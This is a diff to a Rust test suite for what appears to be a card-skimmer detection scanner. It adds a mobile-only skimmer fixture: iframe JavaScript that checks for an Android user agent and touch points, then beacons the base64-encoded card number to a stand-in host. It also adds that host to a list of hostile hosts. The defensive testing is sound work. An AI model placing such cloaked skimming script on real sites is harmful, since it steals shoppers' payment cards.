@@ -246,6 +246,23 @@ fn build_shop() -> Shop {
         )),
     );
 
+    // 11. The same, for phones only: the frame checks its own user agent and touch points,
+    // which the page's emulation does not reach in an out-of-process frame.
+    evil.set(
+        "/mframe.html",
+        html(format!(
+            "<!doctype html><html><body><form id=\"card\"><input name=\"cardnumber\" autocomplete=\"cc-number\"><input name=\"exp-date\" autocomplete=\"cc-exp\"><input name=\"cvc\" autocomplete=\"cc-csc\"><button type=\"submit\">Pay</button></form><script>document.getElementById('card').addEventListener('submit',function(e){{e.preventDefault();if(!/Android/.test(navigator.userAgent)||navigator.maxTouchPoints<1)return;navigator.sendBeacon('{}',btoa(document.querySelector('[name=cardnumber]').value))}});</script></body></html>",
+            e("m.frame-metrics.test", "/c")
+        )),
+    );
+    site.set(
+        "/checkout/mobileframe",
+        html(format!(
+            "<!doctype html><html><head><meta charset=\"utf-8\"><title>Pay – Northwind Outfitters</title></head><body><h1>Payment</h1><iframe src=\"{}\" title=\"Card payment\" width=\"300\" height=\"200\"></iframe></body></html>",
+            e("pay.card-frames.test", "/mframe.html")
+        )),
+    );
+
     // Legitimate: a processor iframe receiving the card.
     site.set(
         "/checkout/processor",
@@ -295,6 +312,7 @@ const EVIL_HOSTS: &[&str] = &[
     "rec.replay.test",
     "pay.card-frames.test",
     "collect.frame-metrics.test",
+    "m.frame-metrics.test",
 ];
 
 /// What the worker skimmer imports: the reversing helper.
@@ -612,9 +630,19 @@ fn a_mobile_only_skimmer_is_caught_as_a_phone_and_reported_as_cloaking() {
     ];
     args.extend(pins(&shop));
     args.push(shop.site.url(SHOP, "/checkout/mobile"));
+    args.push(shop.site.url(SHOP, "/checkout/mobileframe"));
     let argv: Vec<&str> = args.iter().map(String::as_str).collect();
     let (code, report, stderr) = common::scan_json(&argv);
     assert_eq!(code, 1, "{stderr}\n{report:#}");
+    // Inside an out-of-process card iframe too, the phone is a phone.
+    let f = findings_for(&report, "/checkout/mobileframe", "exfiltration-observed");
+    assert_eq!(f.len(), 1, "{report:#}");
+    assert_eq!(f[0]["hosts"], serde_json::json!(["m.frame-metrics.test"]));
+    let ev = f[0]["evidence"].as_str().unwrap_or("");
+    assert!(
+        ev.contains("profile mobile") && !ev.contains("desktop"),
+        "{ev}"
+    );
     let f = findings_for(&report, "/checkout/mobile", "exfiltration-observed");
     assert_eq!(f.len(), 1, "{report:#}");
     assert_eq!(f[0]["hosts"], serde_json::json!(["m.cdn-metrics.test"]));
